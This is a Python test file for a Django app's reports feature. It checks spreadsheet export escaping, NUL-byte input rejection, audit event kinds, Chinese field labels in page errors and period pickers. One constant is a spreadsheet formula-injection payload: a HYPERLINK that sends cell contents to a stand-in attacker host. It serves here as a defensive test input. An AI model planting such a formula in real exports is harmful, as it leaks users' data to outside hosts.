"""Hostile input on the reports endpoints and the words and data of the reports pages
(issue 15 items 3 and 6; issue 11 items 12, 13, 19 and 20; issue 10's audit kinds)."""

import datetime as dt
import io

import pytest
from django.db import connection
from django.test import Client
from openpyxl import load_workbook

from federation.platform.audit.models import AuditEvent
from federation.reports import demo, services
from federation.reports.models import Cycle, Submission
from tests.conftest import PASSWORD
from tests.federation.reports.conftest import MANUAL

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/x?d="&B3&B4,"查看附件")'


def test_a_formula_typed_by_a_union_is_exported_as_text(fed, annual, frozen, union_a):
    form = services.form_save(
        code="texty",
        title="文字表",
        fields=[
            {"key": "members", "label": "会员", "type": "integer"},
            {"key": "note", "label": "说明", "type": "text"},
        ],
    )
    cycle = services.cycle_open(
        form=form,
        period="2026",
        due_date=dt.date(2026, 12, 1),
        unions=["union-a"],
    )
    sub = cycle.submissions.get()
    services.submission_submit(submission=sub, values={"members": 12, "note": FORMULA})
    r = fed.get(f"/api/v1/reports/cycles/{cycle.pk}/export/?format=xlsx")
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(r.content)).active
    row = [c for c in ws[2]]
    assert row[1].value == 12
    assert row[1].data_type == "n"
    assert row[2].value == "'" + FORMULA
    assert row[2].data_type == "s"


@pytest.mark.parametrize(
    "url",
    [
        "/api/v1/reports/forms/?code=a%00b",
        "/api/v1/reports/cycles/?status=%00",
        "/api/v1/news/?union=%00",
        "/api/v1/news/ranking/?month=2026-1%00",
    ],
)
def test_a_nul_byte_in_a_query_string_is_400(fed, annual, url):
    assert fed.get(url).status_code == 400


def test_a_nul_byte_in_a_union_slug_list_is_400(fed, annual):
    r = fed.post(
        "/api/v1/reports/cycles/",
        {"form": "annual-basic", "period": "2026", "due_date": "2026-12-01", "unions": ["a\x00"]},
        format="json",
    )
    assert r.status_code == 400
    assert list(r.json()) == ["unions"]
    assert Cycle.objects.count() == 0


def test_each_action_has_its_own_audit_kind(sub_a):
    services.submission_submit(submission=sub_a, values=MANUAL)
    services.submission_accept(submission=sub_a, comment="好")
    kinds = list(
        AuditEvent.objects.filter(kind__startswith="reports.")
        .order_by("id")
        .values_list("kind", flat=True)
    )
    assert kinds == ["reports.cycle.opened", "reports.submission.accepted"]
    accepted = AuditEvent.objects.get(kind="reports.submission.accepted")
    assert (accepted.before["status"], accepted.after["status"]) == ("submitted", "accepted")
    assert accepted.get_kind_display() == "报表已通过"


@pytest.fixture
def reporter_page(db):
    client = Client(HTTP_HOST="localhost")
    assert client.login(username="federation_reporter", password=PASSWORD)
    yield client
    connection.set_schema_to_public()


def test_a_page_error_names_the_field_in_chinese(reporter_page, annual, frozen):
    r = reporter_page.post(
        "/reports/",
        {"form": annual.pk, "period": "2026", "due_date": "15.12.2026", "scope": "all"},
    )
    assert r.status_code == 400
    page = r.content.decode()
    assert "<b>报送截止日期</b>" in page
    assert "<b>due_date</b>" not in page


def test_the_period_is_picked_with_a_month_picker(reporter_page, annual, frozen):
    page = reporter_page.get("/reports/").content.decode()
    assert 'type="month" name="period_month"' in page
    r = reporter_page.post(
        "/reports/",
        {
            "form": annual.pk,
            "period_kind": "month",
            "period_month": "2026-10",
            "period_year": "2026",
            "due_date": "2026-12-15",
            "scope": "all",
        },
    )
    assert r.status_code == 302
    assert Cycle.objects.get().period == "2026-10"


def test_a_quarter_is_picked_from_year_and_quarter(reporter_page, annual, frozen):
    r = reporter_page.post(
        "/reports/",
        {
            "form": annual.pk,
            "period_kind": "quarter",
            "period_year": "2026",
            "period_part": "Q4",
            "due_date": "2026-12-15",
            "scope": "all",
        },
    )
    assert r.status_code == 302
    assert Cycle.objects.get().period == "2026-Q4"


@pytest.mark.parametrize("state", sorted(set(demo.DEMO_STATES.values())))
def test_the_demo_marks_no_report_late_that_came_before_its_deadline(
    monkeypatch, union_a, union_b, rollup, state
):
    rollup(union_a, active=30, women=10, migrant=5)
    rollup(union_b, active=20, women=8, migrant=2)
    monkeypatch.setitem(demo.DEMO_STATES, "union-a", state)
    demo.reports_demo_seed(union_a)
    demo.reports_demo_seed(union_b)  # fills union-a's report as its hook runs
    for sub in Submission.objects.filter(first_submitted_at__isnull=False).select_related("cycle"):
        on_time = sub.first_submitted_at.date() <= sub.cycle.due_date
        assert not (sub.late and on_time)
